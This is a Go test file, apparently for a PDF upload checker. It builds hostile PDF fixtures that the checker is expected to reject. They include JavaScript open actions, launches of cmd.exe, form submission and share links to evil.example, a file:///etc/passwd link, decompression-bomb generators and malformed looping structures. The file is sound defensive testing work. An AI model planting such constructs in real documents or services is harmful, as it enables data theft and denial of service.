package files_test

import (
	"bytes"
	"fmt"
	"slices"
	"strings"

	ft "github.com/loupe-privacy/loupe/server/files/filestest"
	"github.com/loupe-privacy/loupe/server/files/reason"
)

// annotation returns a page's list of one annotation.
func annotation(keys string) string {
	return "/Annots[<</Type/Annot/Rect[0 0 9 9]" + keys + ">>]"
}

// acting are documents that do something, or carry files.
func acting() []hostile {
	var list []hostile
	for _, d := range []struct{ about, catalog, page string }{
		{"script when opened", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>", ""},
		{"script when opened, spelt", "/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>", ""},
		{"script when opened, elsewhere", "/OpenAction 6 0 R", ""},
		{"script by name", "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>", ""},
		{"script after a harmless step", "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>", ""},
		{"script after two steps", "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>> 6 0 R]>>", ""},
		{"acts on its own", "/AA<</WC<</S/JavaScript/JS(x)>>>>", ""},
		{"a page that acts", "", "/AA<</O<</S/JavaScript/JS(x)>>>>"},
		{"starts a program", "/OpenAction<</S/Launch/F(cmd.exe)>>", ""},
		{"link that starts a program", "", annotation("/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>")},
		{"sends what is filled in", "", annotation("/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(http://evil.example)>>")},
		{"fetches data", "/OpenAction<</S/ImportData/F(a.fdf)>>", ""},
		{"opens another file", "", annotation("/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil.example\\\\share)>>")},
		{"opens a file inside", "", annotation("/Subtype/Link/A<</S/GoToE/T<<>>>>")},
		{"link with a script", "", annotation("/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>")},
		{"link with a script, spaced", "", annotation("/Subtype/Link/A<</S/URI/URI(java\\nscript:alert\\(1\\))>>")},
		{"link to a file", "", annotation("/Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>")},
		{"prints", "/OpenAction<</S/Named/N/Print>>", ""},
		{"hides things", "", annotation("/Subtype/Link/A<</S/Hide/T(a)>>")},
		{"unknown action", "", annotation("/Subtype/Link/A<</S/Whatever>>")},
		{"files inside", "/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 4 0 R>>>>]>>>>", ""},
		{"files that belong to it", "/AF[<</Type/Filespec/F(a.xml)>>]", ""},
		{"folder of files", "/Collection<</View/T>>", ""},
		{"file pinned to a page", "", annotation("/Subtype/FileAttachment/FS<</F(a.exe)>>")},
		{"film", "", annotation("/Subtype/Screen")},
		{"old film", "", annotation("/Subtype/Movie/Movie<</F(a.avi)>>")},
		{"sound", "", annotation("/Subtype/Sound/Sound 4 0 R")},
		{"Flash inside", "", annotation("/Subtype/RichMedia/RichMediaContent<<>>")},
		{"model in three dimensions", "", annotation("/Subtype/3D/3DD 4 0 R")},
		{"form of XFA", "/AcroForm<</Fields[]/XFA 4 0 R>>", ""},
		{"form that computes", "/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</C<</S/JavaScript/JS(x)>>>>>>]>>", ""},
		{"drawn by a script", "/NeedsRendering true", ""},
		{"script behind a bookmark", "/Outlines<</First<</Title(a)/A<</S/JavaScript/JS(x)>>>>>>", ""},
	} {
		list = append(list, hostile{d.about, "a.pdf", ft.OnePage(d.catalog, d.page, "<</S/JavaScript/JS(x)>>"), reason.Active})
	}
	return append(list,
		hostile{"script in an object stream", "a.pdf", ft.Packed("", strings.Replace(ft.Catalog, ">>", "/OpenAction 4 0 R>>", 1), ft.Pages, ft.Page, "<</S/JavaScript/JS(x)>>"), reason.Active},
		hostile{"bytes from another file", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/F(http://evil.example/x)", nil)), reason.Active},
		hostile{"PostScript inside", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Type/XObject/Subtype/PS", []byte("quit"))), reason.Active},
		hostile{"a name for a font that is an action elsewhere", "a.pdf",
			ft.OnePage("", "/Resources<</Font<</F1 6 0 R>>>>"+annotation("/Subtype/Link/A 6 0 R"), "<</S/Launch/F(a)>>"), reason.Active},
		hostile{"script in a later version", "a.pdf", later(goodPDF), reason.Active},
	)
}

// later returns a document with a newer version of its catalog, that acts.
func later(data []byte) []byte {
	at := bytes.LastIndex(data, []byte("xref\n0"))
	add := len(data)
	return cat(data, fmt.Sprintf("1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n"+
		"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n", add, at, add+77))
}

// exploding are documents that take more than they should.
func exploding() []hostile {
	kids := strings.Repeat("<</Type/Page>>", 21)
	picture := func(keys string, data []byte) []byte {
		return ft.OnePage("", "/B 6 0 R", ft.Stream("/Type/XObject/Subtype/Image"+keys, data))
	}
	bomb := ft.Zeros(64 << 20)
	return []hostile{
		{"Flate bomb", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/FlateDecode", bomb)), reason.TooLarge},
		{"Flate bomb by its short name", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter[/Fl]", bomb)), reason.TooLarge},
		{"bomb in a bomb", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter[/FlateDecode/FlateDecode]", ft.Flate(bomb))), reason.TooLarge},
		{"bomb of run lengths", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/RunLengthDecode", bytes.Repeat([]byte{129, 0}, 200_000))), reason.TooLarge},
		{"bomb of LZW", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/LZWDecode", lzwBomb())), reason.TooLarge},
		{"many small bombs", "a.pdf", ft.OnePage("", "/B[6 0 R 7 0 R 8 0 R]", slices.Repeat([]string{ft.Stream("/Filter/FlateDecode", ft.Zeros(6<<20))}, 3)...), reason.TooLarge},
		{"bomb as object stream", "a.pdf", ft.Packed("", ft.Catalog, ft.Pages, ft.Page, "("+strings.Repeat("\x00", 48<<20)+")"), reason.TooLarge},
		{"too many pages", "a.pdf", ft.PDF(ft.Catalog, "<</Type/Pages/Kids["+kids+"]/Count 1>>"), reason.TooManyPages},
		{"too many objects", "a.pdf", ft.PDF(append([]string{ft.Catalog, ft.Pages, ft.Page}, make([]string, 5000)...)...), reason.TooLarge},
		{"too many objects by its table", "a.pdf", tableStream("/W[0 0 1]/Index[0 2000000]", ft.Zeros(2_000_000)), reason.TooLarge},
		{"picture of a square mile", "a.pdf", picture("/Width 100000/Height 100000/BitsPerComponent 8/Filter/DCTDecode", goodJPEG), reason.TooManyPixels},
		{"photograph larger than it says", "a.pdf", picture("/Width 10/Height 10/Filter/DCTDecode", ft.JPEGHead(60000, 60000, 0xC0, 1)), reason.TooManyPixels},
		{"JPEG 2000 larger than it says", "a.pdf", picture("/Width 10/Height 10/Filter/JPXDecode", []byte("\xFF\x4F\xFF\x51\x00\x29\x00\x00\x00\x0F\xFF\xFF\x00\x0F\xFF\xFF")), reason.TooManyPixels},
		{"mask of more than there is", "a.pdf", picture("/ImageMask true/Width 900000/Height 900000", nil), reason.TooManyPixels},
	}
}

// lzwBomb returns LZW of many zeros: each code is one byte longer than the
// last, until it begins again.
func lzwBomb() []byte {
	var out []byte
	bits, have := 0, 0
	put := func(code, width int) {
		for bits, have = bits<<width|code, have+width; have >= 8; have -= 8 {
			out = append(out, byte(bits>>(have-8)))
			bits &= 1<<(have-8) - 1
		}
	}
	for range 8 {
		width := 9
		put(256, width)
		put(0, width)
		for next := 258; next < 4094; next++ {
			put(next, width)
			if next+2 >= 1<<width && width < 12 {
				width++
			}
		}
		put(256, width)
	}
	return out
}

// tableStream returns a document with a table that is a stream.
func tableStream(keys string, rows []byte) []byte {
	head := "%PDF-1.5\n"
	return cat(head, "1 0 obj\n", ft.Stream("/Type/XRef/Root 2 0 R/Size 3/Filter/FlateDecode"+keys, rows), fmt.Sprintf("\nendobj\nstartxref\n%d\n%%%%EOF", len(head)))
}

// broken are documents that can't be read, or lead readers astray.
func broken() []hostile {
	more := func(keys string) string { return strings.Replace(ft.Catalog, ">>", keys+">>", 1) }
	loop := cat(goodPDF[:bytes.LastIndex(goodPDF, []byte("trailer"))])
	at := bytes.LastIndex(loop, []byte("xref"))
	nested := func(open string) []byte {
		return ft.PDF(more("/Outlines 4 0 R"), ft.Pages, ft.Page, strings.Repeat(open, 300_000))
	}
	return []hostile{
		{"encrypted", "a.pdf", ft.PDFWith("/Encrypt<</Filter/Standard/V 2/R 3>>", ft.Catalog, ft.Pages, ft.Page), reason.Encrypted},
		{"encrypted elsewhere", "a.pdf", ft.PDFWith("/Encrypt 4 0 R", ft.Catalog, ft.Pages, ft.Page, "<<>>"), reason.Encrypted},
		{"encrypted by a filter", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/Crypt", nil)), reason.Encrypted},
		{"encrypted, with a broken table", "a.pdf", bytes.Replace(ft.PDFWith("/Encrypt 4 0 R", ft.Catalog, ft.Pages, ft.Page, "<<>>"), []byte("startxref\n"), []byte("startxref\n9"), 1), reason.Encrypted},
		{"head alone", "a.pdf", []byte("%PDF-1.7\n"), reason.Damaged},
		{"end alone", "a.pdf", []byte("%PDF-1.7\nstartxref\n0\n%%EOF"), reason.Damaged},
		{"noise", "a.pdf", cat("%PDF-1.7\n", strings.Repeat("\x00\xff<<[(", 5000)), reason.Damaged},
		{"cut off", "a.pdf", goodPDF[:len(goodPDF)/3], reason.Damaged},
		{"no catalog", "a.pdf", ft.PDF("null", ft.Pages, ft.Page), reason.Damaged},
		{"no pages", "a.pdf", ft.PDF("<</Type/Catalog>>"), reason.Damaged},
		{"empty tree of pages", "a.pdf", ft.PDF(ft.Catalog, "<</Type/Pages/Kids[]/Count 0>>"), reason.Damaged},
		{"pages in a ring", "a.pdf", ft.PDF(ft.Catalog, "<</Type/Pages/Kids[3 0 R]>>", "<</Type/Pages/Kids[2 0 R]>>"), reason.Damaged},
		{"one page many times", "a.pdf", ft.PDF(ft.Catalog, "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", 1000)+"]>>", ft.Page), reason.Damaged},
		{"tables in a ring", "a.pdf", cat(loop, fmt.Sprintf("trailer\n<</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF", at, at)), reason.Damaged},
		{"names in a ring", "a.pdf", ft.PDF(more("/Names<</Dests 4 0 R>>"), ft.Pages, ft.Page, "<</Kids[4 0 R]>>"), reason.Damaged},
		{"structure in a ring", "a.pdf", ft.PDF(more("/StructTreeRoot 4 0 R"), ft.Pages, ft.Page, "<</K 5 0 R>>", "<</S/P/K[5 0 R]>>"), reason.Damaged},
		{"bookmarks in a ring", "a.pdf", ft.PDF(more("/Outlines 4 0 R"), ft.Pages, ft.Page, "<</First 5 0 R>>", "<</Title(a)/Next 6 0 R>>", "<</Title(b)/Next 5 0 R>>"), reason.Damaged},
		{"object that stands for itself", "a.pdf", ft.PDF("4 0 R", ft.Pages, ft.Page, "1 0 R"), reason.Damaged},
		{"arrays without end", "a.pdf", nested("["), reason.Damaged},
		{"dictionaries without end", "a.pdf", nested("<</A"), reason.Damaged},
		{"parentheses without end", "a.pdf", nested("("), reason.Damaged},
		{"tree of pages too deep", "a.pdf", deepPages(2000), reason.Damaged},
		{"length that needs itself", "a.pdf", ft.PDF(more("/Outlines 4 0 R"), ft.Pages, ft.Page, "<</Length 4 0 R>>\nstream\nx"), reason.Damaged},
		{"object stream inside itself", "a.pdf", cat("%PDF-1.5\n1 0 obj\n", ft.Stream("/Type/XRef/Root 2 0 R/Size 3/W[1 1 1]", []byte("\x00\x00\x00\x01\x09\x00\x02\x02\x00")), "\nendobj\nstartxref\n9\n%%EOF"), reason.Damaged},
		{"table of impossible rows", "a.pdf", tableStream("/W[9 9 9]", ft.Zeros(100)), reason.Damaged},
		{"table of no rows", "a.pdf", tableStream("/W[0 0 0]/Index[0 999999999]", ft.Zeros(100)), reason.Damaged},
		{"table of wide predictors", "a.pdf", tableStream("/W[1 2 1]/DecodeParms<</Predictor 15/Columns 2147483647>>", ft.Zeros(100)), reason.Damaged},
		{"unknown filter", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/Whatever", nil)), reason.Damaged},
		{"picture of a negative size", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Subtype/Image/Width -5/Height 5", nil)), reason.Damaged},
		{"streams that overlap", "a.pdf", overlapping(900), reason.Damaged},
		{"photograph that is none", "a.pdf", ft.OnePage("", "/B 6 0 R", ft.Stream("/Filter/DCTDecode", []byte("no"))), reason.Damaged},
	}
}

// deepPages returns a document whose one page hangs below many branches.
func deepPages(n int) []byte {
	objects := []string{ft.Catalog}
	for i := range n {
		objects = append(objects, fmt.Sprintf("<</Type/Pages/Kids[%d 0 R]>>", i+3))
	}
	return ft.PDF(append(objects, "<</Type/Page>>")...)
}

// overlapping returns a document whose many streams all begin anew inside the
// one before, and end together.
func overlapping(n int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	offsets := []int{}
	add := func(s string) {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\n", len(offsets), s)
	}
	add("<</Type/Catalog/Pages 2 0 R/Outlines[" + refs(4, n) + "]>>endobj")
	add(ft.Pages + "endobj")
	add(ft.Page + "endobj")
	for range n {
		add("<</Length 99999999>>stream")
	}
	b.WriteString(strings.Repeat("x", 500_000) + "endstream endobj\n")
	at := b.Len()
	fmt.Fprintf(&b, "xref\n1 %d\n", len(offsets))
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<</Root 1 0 R>>\nstartxref\n%d\n%%%%EOF", at)
	return b.Bytes()
}

// refs returns n refs from a number on.
func refs(from, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%d 0 R ", from+i)
	}
	return b.String()
}

// documents are the documents that are not taken.
func documents() []hostile {
	return slices.Concat(acting(), exploding(), broken())
}
